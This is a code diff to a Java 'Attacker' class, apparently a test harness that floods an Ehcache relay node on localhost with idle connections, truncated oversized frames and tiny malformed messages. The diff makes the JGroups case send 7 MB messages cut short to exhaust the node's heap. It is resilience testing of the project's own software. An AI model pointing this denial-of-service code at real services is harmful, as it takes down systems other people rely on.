@@ -42,8 +42,8 @@ import net.sf.ehcache.distribution.CachePeer;
  * <li>{@code idle}: 2,000 connections that send nothing, to every port the node listens on.</li>
  * <li>{@code frames}: 8 connections each announcing a 60 MB frame and sending 16 MB of it — TCP: authenticated
  *     connections; RMI: relay batches under sessions; Hessian: request bodies under a session. JGroups: raw
- *     connections to the member port (no member needed there), 40 of them each announcing a 7 MB message
- *     (under the shipped stack's max_length) and sending 4 MB of it.</li>
+ *     connections to the member port (no member needed there), 40 of them each sending a well-formed message
+ *     whose payload is 7 MB (under the shipped stack's max_length), cut after 4 MB of it.</li>
  * <li>{@code tiny}: 1,000,000 tiny frames on one connection — TCP: malformed event frames after authenticating;
  *     RMI: JRMP pings (no session needed); Hessian: challenge calls pipelined (the smallest call served
  *     without a session; at most 10 s); JGroups: 3-byte messages of an unknown version.</li>
@@ -317,12 +317,13 @@ public final class Attacker {
                 : "hessian".equals(transport) ? io.ehrelay.hessian.HessianAttacks.session(
                         "http://127.0.0.1:" + port + "/ehrelay", secret, "http://127.0.0.1:1/ehrelay") : null;
         try {
-            // JGroups: max_length (8 MB) refuses 60 MB at once, so 40 connections announce 7 MB each (280 MB, more than
-            // the node's heap): inboundBufferMaxBytes (32 MB) lets 4 be read, the others are closed after 10 s
+            // JGroups allocates a message's payload at the length inside the message: 40 connections each send a
+            // message whose payload is 7 MB (280 MB, more than the node's heap) and stop 3 MB short of its end;
+            // inboundBufferMaxBytes (32 MB) lets 4 be read, the others are closed after 10 s
             boolean jgroups = "jgroups".equals(transport);
             int connections = jgroups ? 40 : 8;
-            int announced = jgroups ? 7 << 20 : 60 << 20;
-            int sent = jgroups ? 4 : 16;
+            int sent = 16;
+            byte[] jgroupsMessage = jgroups ? jgroupsFrame(7 << 20) : null;
             for (int i = 0; i < connections; i++) {
                 int n = i;
                 // each connection writes on its own thread: the node may stop reading when its budget is spent
@@ -352,8 +353,14 @@ public final class Attacker {
                                     open.add(s);
                                 }
                                 OutputStream out = s.getOutputStream();
-                                out.write("tcp".equals(transport) ? TcpAttacks.eventsHeader(60 << 20)
-                                        : java.nio.ByteBuffer.allocate(4).putInt(announced).array());
+                                if (jgroups) {
+                                    // a well-formed message whose payload is 7 MB, cut after 4 MB of it
+                                    out.write(jgroupsMessage, 0, jgroupsMessage.length - (3 << 20));
+                                    written.addAndGet(jgroupsMessage.length - (3 << 20));
+                                    out.flush();
+                                    return;
+                                }
+                                out.write(TcpAttacks.eventsHeader(60 << 20));
                                 for (int mb = 0; mb < sent; mb++) {
                                     out.write(sixteen, mb << 20, 1 << 20);
                                     written.addAndGet(1 << 20);
@@ -384,6 +391,17 @@ public final class Attacker {
                 }
             }
         }
+    }
+
+    /** A JGroups frame as a member's transport writes it: its length, then a message carrying {@code payload} bytes. */
+    private static byte[] jgroupsFrame(int payload) throws IOException {
+        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream(payload + 256);
+        java.io.DataOutputStream out = new java.io.DataOutputStream(bytes);
+        out.writeInt(0);
+        org.jgroups.util.Util.writeMessage(new org.jgroups.BytesMessage(null, new byte[payload]), out, true);
+        byte[] f = bytes.toByteArray();
+        java.nio.ByteBuffer.wrap(f).putInt(0, f.length - 4);
+        return f;
     }
 
     /**
